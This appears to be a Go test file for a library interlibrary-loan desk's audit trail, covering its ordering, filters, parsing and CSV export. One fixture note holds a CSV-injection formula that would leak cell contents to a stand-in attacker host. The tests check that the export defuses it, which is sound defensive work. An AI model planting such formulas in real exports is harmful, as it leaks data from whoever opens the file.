package domain

import (
	"bytes"
	"encoding/csv"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// auditIDs are the requests of the audit fixture.
type auditIDs struct{ l1, b1, l2 string }

// wed is the fixture's day (Wednesday 4 March 2026) at hh:mm UTC.
func wed(hh, mm int) time.Time { return time.Date(2026, 3, 4, hh, mm, 0, 0, time.UTC) }

// newAuditFixture makes a desk whose history holds every kind of entry:
//
//	10:00 ana creates lending L-1 (RAPID) and borrowing B-1 (BVB)
//	10:10 ana asks for L-1 to be picked for the Scan Lab
//	10:20 ana receives B-1
//	10:30 ben puts B-1 on the hold shelf at Main Library
//	10:40 the ready-for-pickup notice for B-1 is sent
//	10:45 ana creates lending L-2 (BVB)
//	10:50 dora cancels L-2 with a note a spreadsheet would run as a formula
//	10:55 ana undoes the cancellation
//	11:00 RAPID asks for the status of L-1
func newAuditFixture(t *testing.T) (*deskFixture, auditIDs) {
	t.Helper()
	f := newInteropFixture(t)
	forgetConfigChanges(t, f) // these tests look at request history; TestAuditConfigChanges covers the rest
	var ids auditIDs
	f.now = wed(10, 0)
	ids.l1 = f.lending("RAPID", "L-1").ID
	ids.b1 = f.borrowing("BVB", "B-1").ID
	step := func(hh, mm int, do func() error) {
		t.Helper()
		f.now = wed(hh, mm)
		require.NoError(t, do())
	}
	step(10, 10, func() error { _, err := f.desk.Pick(ids.l1, scanLab, "39000000001", atRS); return err })
	step(10, 20, func() error { _, err := f.desk.Receive(ids.b1, "39200001", atRS); return err })
	step(10, 30, func() error { _, err := f.desk.Scan("39200001", "", atMain); return err })
	step(10, 40, func() error {
		sent, _, err := f.desk.DeliverNotices(&fakeMailer{})
		assert.Equal(t, 1, sent)
		return err
	})
	f.now = wed(10, 45)
	ids.l2 = f.lending("BVB", "L-2").ID
	step(10, 50, func() error {
		_, err := f.desk.Cancel(ids.l2, `=HYPERLINK("http://evil.example/?"&A1,"click")`, atScanLab)
		return err
	})
	step(10, 55, func() error { _, err := f.desk.Undo(ids.l2, atRS); return err })
	step(11, 0, func() error {
		_, _, err := f.desk.Intake(msg(t, Incoming{Kind: KindRequesting, From: "OCLC:RAPID", RequestingRequestID: "L-1",
			Action: "StatusRequest", Note: "where is it?"}))
		return err
	})
	return f, ids
}

// auditLine is an entry reduced to what orders and identifies it.
type auditLine struct {
	At     time.Time
	Ref    string
	Action Action
}

func auditLines(es []AuditEntry) []auditLine {
	out := []auditLine{}
	for _, e := range es {
		out = append(out, auditLine{e.At, e.Ref, e.Action})
	}
	return out
}

func (f *deskFixture) audit(af AuditFilter) []AuditEntry {
	f.t.Helper()
	es, err := f.desk.Audit(af)
	require.NoError(f.t, err)
	return es
}

func TestAuditListsEveryEntryNewestFirst(t *testing.T) {
	f, ids := newAuditFixture(t)
	es := f.audit(AuditFilter{})
	assert.Equal(t, []auditLine{
		{wed(11, 0), "L-1", ActMessage},
		{wed(10, 55), "L-2", ActUndo},
		{wed(10, 50), "L-2", ActCancel},
		{wed(10, 45), "L-2", ActCreate},
		{wed(10, 40), "B-1", ActNotice},
		{wed(10, 30), "B-1", ActHoldShelf},
		{wed(10, 20), "B-1", ActReceive},
		{wed(10, 10), "L-1", ActPick},
		// made at the same moment: in request id order
		{wed(10, 0), "L-1", ActCreate},
		{wed(10, 0), "B-1", ActCreate},
	}, auditLines(es))

	n := 0
	for _, id := range []string{ids.l1, ids.b1, ids.l2} {
		n += len(f.stored(id).History)
	}
	assert.Len(t, es, n, "every history event is in the trail")

	assert.Equal(t, AuditEntry{At: wed(10, 30), RequestID: ids.b1, Ref: "B-1", ExternalID: "B-1", RequestNumber: f.stored(ids.b1).RequestNumber, Side: Borrowing,
		Partner: "BVB", Action: ActHoldShelf, ActionLabel: "Put on hold shelf", From: Received, To: OnHoldShelf,
		Operator: "ben", Desk: "pickup:Main Library", Note: es[5].Note}, es[5])
	assert.NotEmpty(t, es[5].Note)

	undo := es[1]
	assert.Equal(t, "Undone", undo.ActionLabel)
	assert.Equal(t, Cancelled, undo.From)
	assert.Equal(t, Created, undo.To)
	assert.Equal(t, "ana", undo.Operator)
	assert.Contains(t, undo.Note, "Undid “Cancelled”")

	notice := es[4]
	assert.Equal(t, "Patron notice", notice.ActionLabel)
	assert.Equal(t, OnHoldShelf, notice.From)
	assert.Equal(t, OnHoldShelf, notice.To)
	assert.Equal(t, "ILL Desk", notice.Operator)
	assert.Equal(t, "mail", notice.Desk)

	message := es[0]
	assert.Equal(t, "Partner message", message.ActionLabel)
	assert.Equal(t, "RAPID", message.Operator)
	assert.Equal(t, "interop", message.Desk)
	assert.Equal(t, "StatusRequest: where is it?", message.Note)
}

func TestAuditSameMomentInOneRequestLaterFirst(t *testing.T) {
	f := newDeskFixture(t)
	forgetConfigChanges(t, f)
	l := f.lending("RAPID", "L-1")
	_, err := f.desk.Pick(l.ID, RSDesk, "39000000001", atRS) // same clock as the creation
	require.NoError(t, err)
	assert.Equal(t, []Action{ActPick, ActCreate}, auditActions(f.audit(AuditFilter{})))
}

func auditActions(es []AuditEntry) []Action {
	out := []Action{}
	for _, e := range es {
		out = append(out, e.Action)
	}
	return out
}

func TestAuditFilters(t *testing.T) {
	f, ids := newAuditFixture(t)
	tests := []struct {
		name   string
		filter AuditFilter
		want   []auditLine
	}{
		{"ref by external id", AuditFilter{Ref: "L-1"}, []auditLine{
			{wed(11, 0), "L-1", ActMessage}, {wed(10, 10), "L-1", ActPick}, {wed(10, 0), "L-1", ActCreate}}},
		{"ref by id", AuditFilter{Ref: ids.l2}, []auditLine{
			{wed(10, 55), "L-2", ActUndo}, {wed(10, 50), "L-2", ActCancel}, {wed(10, 45), "L-2", ActCreate}}},
		{"ref by id prefix", AuditFilter{Ref: ids.b1[:8]}, []auditLine{
			{wed(10, 40), "B-1", ActNotice}, {wed(10, 30), "B-1", ActHoldShelf},
			{wed(10, 20), "B-1", ActReceive}, {wed(10, 0), "B-1", ActCreate}}},
		{"ref by id suffix, spaces trimmed", AuditFilter{Ref: " " + ids.l2[len(ids.l2)-8:] + " "}, []auditLine{
			{wed(10, 55), "L-2", ActUndo}, {wed(10, 50), "L-2", ActCancel}, {wed(10, 45), "L-2", ActCreate}}},
		{"operator ignores case", AuditFilter{Operator: "BEN"}, []auditLine{{wed(10, 30), "B-1", ActHoldShelf}}},
		{"operator with spaces", AuditFilter{Operator: " Dora "}, []auditLine{{wed(10, 50), "L-2", ActCancel}}},
		{"system operator", AuditFilter{Operator: "ill desk"}, []auditLine{{wed(10, 40), "B-1", ActNotice}}},
		{"operator nobody", AuditFilter{Operator: "zed"}, []auditLine{}},
		{"since is inclusive", AuditFilter{Since: wed(10, 50)}, []auditLine{
			{wed(11, 0), "L-1", ActMessage}, {wed(10, 55), "L-2", ActUndo}, {wed(10, 50), "L-2", ActCancel}}},
		{"since just after", AuditFilter{Since: wed(10, 50).Add(time.Nanosecond)}, []auditLine{
			{wed(11, 0), "L-1", ActMessage}, {wed(10, 55), "L-2", ActUndo}}},
		{"until is inclusive", AuditFilter{Until: wed(10, 10)}, []auditLine{
			{wed(10, 10), "L-1", ActPick}, {wed(10, 0), "L-1", ActCreate}, {wed(10, 0), "B-1", ActCreate}}},
		{"until just before", AuditFilter{Until: wed(10, 10).Add(-time.Nanosecond)}, []auditLine{
			{wed(10, 0), "L-1", ActCreate}, {wed(10, 0), "B-1", ActCreate}}},
		{"since equals until", AuditFilter{Since: wed(10, 30), Until: wed(10, 30)}, []auditLine{{wed(10, 30), "B-1", ActHoldShelf}}},
		{"since in another zone", AuditFilter{Since: wed(10, 55).In(time.FixedZone("CET", 3600))}, []auditLine{
			{wed(11, 0), "L-1", ActMessage}, {wed(10, 55), "L-2", ActUndo}}},
		{"action undo", AuditFilter{Action: ActUndo}, []auditLine{{wed(10, 55), "L-2", ActUndo}}},
		{"action notice", AuditFilter{Action: ActNotice}, []auditLine{{wed(10, 40), "B-1", ActNotice}}},
		{"action message", AuditFilter{Action: ActMessage}, []auditLine{{wed(11, 0), "L-1", ActMessage}}},
		{"action create", AuditFilter{Action: ActCreate}, []auditLine{
			{wed(10, 45), "L-2", ActCreate}, {wed(10, 0), "L-1", ActCreate}, {wed(10, 0), "B-1", ActCreate}}},
		{"partner ignores case", AuditFilter{Partner: "bvb"}, []auditLine{
			{wed(10, 55), "L-2", ActUndo}, {wed(10, 50), "L-2", ActCancel}, {wed(10, 45), "L-2", ActCreate},
			{wed(10, 40), "B-1", ActNotice}, {wed(10, 30), "B-1", ActHoldShelf},
			{wed(10, 20), "B-1", ActReceive}, {wed(10, 0), "B-1", ActCreate}}},
		{"partner unknown", AuditFilter{Partner: "NYPL"}, []auditLine{}},
		{"all together", AuditFilter{Ref: "L-2", Operator: "ANA", Partner: "BVB", Since: wed(10, 0), Until: wed(12, 0), Action: ActUndo},
			[]auditLine{{wed(10, 55), "L-2", ActUndo}}},
		{"ref and another partner", AuditFilter{Ref: "L-2", Partner: "RAPID"}, []auditLine{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, auditLines(f.audit(tt.filter)))
		})
	}
}

func TestAuditRefusals(t *testing.T) {
	f, _ := newAuditFixture(t)
	_, err := f.desk.Audit(AuditFilter{Ref: "NOPE-1"})
	require.ErrorIs(t, err, ErrNotFound)
	assertSentence(t, err)
	_, findErr := f.desk.Find("NOPE-1")
	assert.Equal(t, findErr.Error(), err.Error(), "the same sentence as Find")

	// one external id at two partners
	f.lending("BVB", "L-1")
	_, err = f.desk.Audit(AuditFilter{Ref: "L-1"})
	require.ErrorIs(t, err, ErrAmbiguousRef)
	assertSentence(t, err)

	_, err = f.desk.Audit(AuditFilter{Since: wed(11, 0), Until: wed(10, 0)})
	require.ErrorIs(t, err, ErrInvalidInput)
	assertSentence(t, err)
}

func TestAuditRefusedChangeLeavesNoEntry(t *testing.T) {
	f, ids := newAuditFixture(t)
	before := f.audit(AuditFilter{})
	f.now = wed(12, 0)
	_, err := f.desk.Cancel(ids.b1, "too late", atRS) // B-1 is on the hold shelf
	require.ErrorIs(t, err, ErrIllegalTransition)
	assert.Equal(t, before, f.audit(AuditFilter{}))

	_, err = f.desk.Undo(ids.l2, atRS) // already undone
	require.ErrorIs(t, err, ErrCannotUndo)
	assert.Equal(t, before, f.audit(AuditFilter{}))
}

func TestAuditEmpty(t *testing.T) {
	f := newDeskFixture(t)
	forgetConfigChanges(t, f)
	es, err := f.desk.Audit(AuditFilter{})
	require.NoError(t, err)
	assert.Empty(t, es)
}

func TestParseAction(t *testing.T) {
	tests := []struct {
		in   string
		want Action
	}{
		{"hold_shelf", ActHoldShelf},
		{"HOLD-SHELF", ActHoldShelf},
		{"Put on hold shelf", ActHoldShelf},
		{" undo ", ActUndo},
		{"Undone", ActUndo},
		{"notice", ActNotice},
		{"patron notice", ActNotice},
		{"message", ActMessage},
		{"pick_arrived", ActPickArrived},
		{"bad-citation", ActBadCitation},
	}
	for _, tt := range tests {
		got, err := ParseAction(tt.in)
		require.NoError(t, err, tt.in)
		assert.Equal(t, tt.want, got, tt.in)
	}
	for _, a := range AuditActions() {
		got, err := ParseAction(string(a))
		require.NoError(t, err)
		assert.Equal(t, a, got)
		got, err = ParseAction(a.Label())
		require.NoError(t, err)
		assert.Equal(t, a, got)
		assert.NotEqual(t, string(a), a.Label(), "every action has a label")
	}
	for _, bad := range []string{"", "shelve", "hold"} {
		_, err := ParseAction(bad)
		require.ErrorIs(t, err, ErrInvalidInput, bad)
		assertSentence(t, err)
		assert.Contains(t, err.Error(), "hold_shelf", "the message offers the choices")
	}
}

func TestAuditActionsCoverTheStateTables(t *testing.T) {
	all := AuditActions()
	for side, m := range machines {
		for a := range m {
			assert.Contains(t, all, a, "%s action %s", side, a)
		}
	}
}

func TestParseAuditTime(t *testing.T) {
	cet := time.FixedZone("CET", 3600)
	tests := []struct {
		in    string
		end   bool
		want  time.Time
		valid bool
	}{
		{"2026-03-04", false, time.Date(2026, 3, 4, 0, 0, 0, 0, cet), true},
		{" 2026-03-04 ", false, time.Date(2026, 3, 4, 0, 0, 0, 0, cet), true},
		{"2026-03-04", true, time.Date(2026, 3, 4, 23, 59, 59, 999_999_999, cet), true},
		{"2026-02-28", true, time.Date(2026, 2, 28, 23, 59, 59, 999_999_999, cet), true},
		{"2026-12-31", true, time.Date(2026, 12, 31, 23, 59, 59, 999_999_999, cet), true},
		{"2026-03-04T09:30:00Z", false, time.Date(2026, 3, 4, 9, 30, 0, 0, time.UTC), true},
		{"2026-03-04T09:30:00Z", true, time.Date(2026, 3, 4, 9, 30, 0, 0, time.UTC), true},
		{"2026-03-04T09:30:00.5+02:00", false, time.Date(2026, 3, 4, 7, 30, 0, 500_000_000, time.UTC), true},
		{"", false, time.Time{}, false},
		{"yesterday", false, time.Time{}, false},
		{"04/03/2026", false, time.Time{}, false},
		{"2026-02-30", false, time.Time{}, false},
		{"2026-03-04 09:30", false, time.Time{}, false},
	}
	for _, tt := range tests {
		got, err := ParseAuditTime(tt.in, cet, tt.end)
		if !tt.valid {
			require.ErrorIs(t, err, ErrInvalidInput, tt.in)
			assertSentence(t, err)
			assert.Contains(t, err.Error(), "YYYY-MM-DD")
			continue
		}
		require.NoError(t, err, tt.in)
		assert.True(t, tt.want.Equal(got), "%q: want %s, got %s", tt.in, tt.want, got)
	}
}

// ---- CSV ----

const auditGolden = "testdata/audit.golden.csv"

// TestAuditCSVGolden compares the export of the audit fixture with the
// hand-checked file in testdata/; go test -run AuditCSVGolden -update
// rewrites it from the current code (review the diff before committing it).
func TestAuditCSVGolden(t *testing.T) {
	f, _ := newAuditFixture(t)
	var buf bytes.Buffer
	require.NoError(t, WriteAuditCSV(&buf, f.audit(AuditFilter{})))
	if *update {
		require.NoError(t, os.WriteFile(auditGolden, buf.Bytes(), 0o644))
		return
	}
	want, err := os.ReadFile(auditGolden)
	require.NoError(t, err)
	assert.Equal(t, string(want), buf.String())
}

func TestAuditCSVReadsBack(t *testing.T) {
	f, _ := newAuditFixture(t)
	es := f.audit(AuditFilter{})
	var buf bytes.Buffer
	require.NoError(t, WriteAuditCSV(&buf, es))
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, len(es)+1)
	assert.Equal(t, []string{"time", "request", "external_id", "side", "partner", "action", "from", "to", "operator", "desk", "note"}, rows[0])
	for i, e := range es {
		row := rows[i+1]
		at, err := time.Parse(time.RFC3339, row[0])
		require.NoError(t, err)
		assert.True(t, e.At.Equal(at))
		assert.Equal(t, []string{e.RequestID, e.ExternalID, string(e.Side), e.Partner, string(e.Action), string(e.From), string(e.To), e.Operator, e.Desk},
			row[1:10])
	}
	assert.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, rows[3][10], "the formula is defused")
}

func TestAuditCSVDefusesFormulas(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+2", "'=1+2"},
		{"+1 555 0100", "'+1 555 0100"},
		{"-2 pages", "'-2 pages"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"'quoted", "'quoted"},
		{"", ""},
	}
	for _, tt := range tests {
		e := AuditEntry{At: wed(9, 0), RequestID: tt.in, ExternalID: tt.in, Side: Lending, Partner: tt.in,
			Action: ActCreate, To: Created, Operator: tt.in, Desk: tt.in, Note: tt.in}
		var buf bytes.Buffer
		require.NoError(t, WriteAuditCSV(&buf, []AuditEntry{e}))
		rows, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
		require.NoError(t, err, "%q", tt.in)
		require.Len(t, rows, 2)
		row := rows[1]
		for _, col := range []int{1, 2, 4, 8, 9, 10} {
			assert.Equal(t, tt.want, row[col], "%q in column %s", tt.in, rows[0][col])
		}
	}
}

func TestAuditCSVEmpty(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, WriteAuditCSV(&buf, nil))
	assert.Equal(t, "time,request,external_id,side,partner,action,from,to,operator,desk,note\n", buf.String())
}

type auditFailingWriter struct{}

func (auditFailingWriter) Write([]byte) (int, error) { return 0, os.ErrClosed }

func TestAuditCSVWriteError(t *testing.T) {
	require.ErrorIs(t, WriteAuditCSV(auditFailingWriter{}, []AuditEntry{{At: wed(9, 0)}}), os.ErrClosed)
}

// forgetConfigChanges drops the audited configuration changes the fixture's
// setup made (partners, agency id).
func forgetConfigChanges(t *testing.T, f *deskFixture) {
	t.Helper()
	f.store.mu.Lock()
	defer f.store.mu.Unlock()
	delete(f.store.data.Records, memConfigChanges)
}

func TestAuditConfigChanges(t *testing.T) {
	f := newDeskFixture(t)
	forgetConfigChanges(t, f)
	f.now = wed(12, 0)
	_, err := f.desk.EditPartner("RAPID", func(p *Partner) { p.TurnaroundHours = 48 }, atRS)
	require.NoError(t, err)
	f.now = wed(12, 5)
	require.NoError(t, f.desk.SaveMailSettings(MailSettings{Host: "smtp.example.edu", User: "ill", Password: "s3cret-pass", From: "ill@example.edu"}, atRS))
	f.now = wed(12, 10)
	require.NoError(t, f.desk.SetHolidays([]string{"2026-12-25"}, atRS))

	es := f.audit(AuditFilter{Action: ActConfigure})
	require.Len(t, es, 3)
	assert.Equal(t, "holidays", es[0].Ref)
	assert.Contains(t, es[0].Note, "2026-12-25")
	assert.Equal(t, "mail settings", es[1].Ref)
	assert.NotContains(t, es[1].Note, "s3cret-pass", "secrets never reach the audit trail")
	assert.Equal(t, "partner RAPID", es[2].Ref)
	assert.Equal(t, "turnaround_hours: 24 → 48", es[2].Note)
	assert.Equal(t, "ana", es[2].Operator)
	assert.Equal(t, "RAPID", es[2].Partner)

	assert.Len(t, f.audit(AuditFilter{Partner: "rapid", Action: ActConfigure}), 1)
	assert.Empty(t, f.audit(AuditFilter{Operator: "nobody", Action: ActConfigure}))
}
